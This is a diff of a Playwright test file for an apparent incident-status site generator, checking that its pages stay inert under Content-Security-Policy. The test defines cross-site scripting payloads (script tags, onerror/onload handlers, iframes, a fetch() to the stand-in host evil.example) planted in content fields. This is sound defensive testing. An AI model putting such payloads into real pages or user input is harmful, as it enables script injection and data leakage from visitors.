@@ -10,33 +10,38 @@ theme's own search must still work under the Content-Security-Policy, with no vi
 from __future__ import annotations
 
 import threading
+from collections.abc import Iterator
 from functools import partial
 from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
-from typing import Iterator
 from urllib.parse import urlsplit
 
 import pytest
 from playwright.sync_api import ConsoleMessage, Dialog, Page, Route, expect
+from redteam import BEFORE_EMBARGO, approve_all, built, crisiskit, make_project, rules_off
 from ruamel.yaml import YAML
 from ruamel.yaml.scalarstring import LiteralScalarString
 
-from redteam import rules_off, BEFORE_EMBARGO, approve_all, built, crisiskit, make_project
-
 KIT = "kits/acme-outage.yml"
-PAGES = ["en/", "en/incidents/", "en/incidents/acme-outage/", "en/incidents/acme-outage/revisions/1/",
-         "en/incidents/acme-outage/faq/", "zh-Hant/incidents/acme-outage/"]
+PAGES = [
+    "en/",
+    "en/incidents/",
+    "en/incidents/acme-outage/",
+    "en/incidents/acme-outage/revisions/1/",
+    "en/incidents/acme-outage/faq/",
+    "zh-Hant/incidents/acme-outage/",
+]
 # Each payload, if it ever ran or loaded, would leave a trace the test looks for.
 PAYLOADS = {
     ("title", "en"): "Acme <script>alert('pwned')</script> outage",
     ("headline", "en"): "Down <img src=x onerror=\"document.title='pwned'\">",
     ("acknowledgement", "en"): "We are sorry.\n\n<svg onload=\"console.log('pwned')\"></svg>\n"
-                               "<script>fetch('https://evil.example/pwned')</script>",
+    "<script>fetch('https://evil.example/pwned')</script>",
     ("not_yet_known", "en"): "We do not know yet. ![t](https://evil.example/t.png)\n\n"
-                             "<iframe src=\"https://evil.example/frame\"></iframe>",
+    '<iframe src="https://evil.example/frame"></iframe>',
     ("faq_answer", "en"): "Yes.\n\n<details open ontoggle=\"alert('pwned')\">x</details>\n"
-                          "<img src=\"https://evil.example/track.png\">",
-    ("organization", "en"): "Acme <object data=\"https://evil.example/o\"></object>",
+    '<img src="https://evil.example/track.png">',
+    ("organization", "en"): 'Acme <object data="https://evil.example/o"></object>',
 }
 _NOT_FOUND = "error: Failed to load resource: the server responded with a status of 404"
 APPROVER = "<img src=https://evil.example/approver.png onerror=alert(1)>"
@@ -115,9 +120,11 @@ class Watch:
         page.on("console", console)
         page.on("pageerror", lambda error: self.errors.append(str(error)))
         page.on("response", lambda response: response.status >= 400 and self.failed.append(response.url))
-        page.add_init_script("window.__violations = [];"
-                             "document.addEventListener('securitypolicyviolation', e => "
-                             "window.__violations.push(e.violatedDirective + ' ' + e.blockedURI));")
+        page.add_init_script(
+            "window.__violations = [];"
+            "document.addEventListener('securitypolicyviolation', e => "
+            "window.__violations.push(e.violatedDirective + ' ' + e.blockedURI));"
+        )
 
     def quiet(self) -> dict[str, list[str]]:
         """What happened that must not have: empty lists everywhere when the page is inert.
@@ -128,8 +135,17 @@ class Watch:
         """
         failed = [url for url in self.failed if not url.endswith("/sitemap.xml")]
         console = [m for m in self.console if failed or not m.startswith(_NOT_FOUND)]
-        return {k: v for k, v in (("dialogs", self.dialogs), ("console", console), ("errors", self.errors),
-                                  ("outside requests", self.outside), ("failed requests", failed)) if v}
+        return {
+            k: v
+            for k, v in (
+                ("dialogs", self.dialogs),
+                ("console", console),
+                ("errors", self.errors),
+                ("outside requests", self.outside),
+                ("failed requests", failed),
+            )
+            if v
+        }
 
 
 @pytest.mark.parametrize("path", PAGES)
